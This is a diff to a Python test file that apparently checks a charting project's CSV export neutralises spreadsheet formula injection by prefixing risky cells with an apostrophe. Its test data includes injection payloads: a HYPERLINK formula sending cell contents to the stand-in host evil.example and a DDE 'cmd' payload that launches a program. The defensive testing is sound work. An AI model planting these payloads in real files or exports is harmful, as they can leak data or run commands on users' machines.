@@ -2,14 +2,58 @@
 
 import shutil
 
+import io
+
+import pandas as pd
 import plotly.graph_objects as go
 import pytest
 
-from negviz.charts.export import figure_bytes
+from negviz.charts.export import csv_bytes, figure_bytes
 
-pytestmark = pytest.mark.skipif(shutil.which("chromium") is None, reason="kaleido needs a Chromium (make test installs it)")
+needs_chromium = pytest.mark.skipif(shutil.which("chromium") is None, reason="kaleido needs a Chromium (make test installs it)")
+
+PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1", "\r=1"]
 
 
+def test_csv_bytes_neutralises_formula_cells_and_keeps_numbers():
+    frame = pd.DataFrame({"label": PAYLOADS, "delta": [-0.5, -1.25, 0.0, 1.0, -3.0, 2.0, -7.5],
+                          "count": [-1, 2, 3, 4, 5, 6, 7], "plain": ["a", "b=c", "", "x-y", "'q", "ok", "z"]})
+    text = csv_bytes(frame).decode("utf-8")
+    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
+    assert back["label"].tolist() == ["'" + p for p in PAYLOADS]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in back["label"])
+    assert back["delta"].tolist() == [-0.5, -1.25, 0.0, 1.0, -3.0, 2.0, -7.5]  # still numbers, unquoted
+    assert back["count"].tolist() == [-1, 2, 3, 4, 5, 6, 7]
+    assert back["plain"].tolist() == ["a", "b=c", "", "x-y", "'q", "ok", "z"]
+    assert ",-0.5," in text and "'-0.5" not in text
+
+
+def test_annotation_csv_export_is_neutralised_and_reimports(tmp_path):
+    from negviz import annotations as ann
+    from negviz.datasets import load
+    from negviz.store import Store
+
+    nevir = load("nevir")
+    with Store(tmp_path / "a.sqlite") as store:
+        ann.save(store, nevir, "1230-2", "@ana", ann.Label("sentential", "valid", False,
+                                                       '=HYPERLINK("https://evil.example","x")'))
+        ann.save(store, nevir, "994-2", "-bo", ann.Label("sentential", "valid", False, "=cmd|' /C calc'!A0"))
+        frame = ann.export_frame(store, nevir)
+        data = ann.to_bytes(frame, "csv")
+        raw = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
+        by_item = raw.set_index("item_id")
+        assert by_item.at["1230-2", "annotator"] == "'@ana" and by_item.at["994-2", "annotator"] == "'-bo"
+        assert by_item.at["1230-2", "note"].startswith("'=HYPERLINK(")
+        assert by_item.at["994-2", "note"] == "'=cmd|' /C calc'!A0"
+        with Store(tmp_path / "b.sqlite") as other:  # our own export reads back to the same labels
+            assert ann.import_annotations(other, nevir, data, "labels.csv").added == 2
+            got = ann.latest(other, "nevir").set_index("item_id")
+            assert got.at["1230-2", "annotator"] == "@ana" and got.at["1230-2", "note"].startswith("=HYPERLINK(")
+            assert got.at["994-2", "annotator"] == "-bo" and got.at["994-2", "note"] == "=cmd|' /C calc'!A0"
+
+
+@needs_chromium
 def test_png_and_svg_bytes_with_paper_fonts():
     fig = go.Figure(go.Bar(x=[1, 2], y=["a", "b"], orientation="h"))
     png = figure_bytes(fig, "png")
